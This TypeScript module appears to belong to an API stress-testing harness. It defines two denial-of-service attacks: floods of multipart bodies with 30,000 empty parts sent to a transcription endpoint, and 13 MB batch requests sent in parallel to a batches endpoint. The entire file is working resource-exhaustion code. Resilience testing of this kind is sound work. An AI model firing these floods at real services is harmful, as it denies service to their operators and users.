// Bodies that cost more to read than to send.
import { storm, type Attack, type Target } from '../attack.ts';

const partCount = 30_000;
const batchItems = 10_000;

function partFlood(): Buffer {
  const part = '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n';
  return Buffer.from(`${part.repeat(partCount)}--b--\r\n`);
}

function hugeBatch(): string {
  const items = Array.from({ length: batchItems }, (_, i) => ({
    custom_id: `item-${i}`.padEnd(60, 'x'),
    file_id: `file-${String(i).padStart(24, '0')}`,
    metadata: { note: 'n'.repeat(1_200) },
  }));
  return JSON.stringify({ task: 'transcription', items });
}

async function send(
  { base, key }: Target,
  { path, type, body, signal }: Body & { readonly signal: AbortSignal },
): Promise<void> {
  const headers = { Authorization: `Bearer ${key}`, 'Content-Type': type };
  const response = await fetch(base + path, { method: 'POST', headers, body, signal });
  await response.arrayBuffer();
}

interface Body {
  readonly path: string;
  readonly type: string;
  readonly body: string | Buffer<ArrayBuffer>;
}

export const bodyAttacks: readonly Attack[] = [
  {
    name: 'part-floods',
    does: 'multipart bodies of 30,000 empty parts, eight at a time',
    run: (target, signal) => {
      const body = Buffer.from(partFlood());
      const type = 'multipart/form-data; boundary=b';
      return storm(8, signal, () =>
        send(target, { path: '/v1/audio/transcriptions', type, body, signal }),
      );
    },
  },
  {
    name: 'huge-batches',
    does: 'batch bodies of 10,000 items and 13 MB, four at a time',
    run: (target, signal) => {
      const body = hugeBatch();
      const type = 'application/json';
      return storm(4, signal, () => send(target, { path: '/v1/batches', type, body, signal }));
    },
  },
];
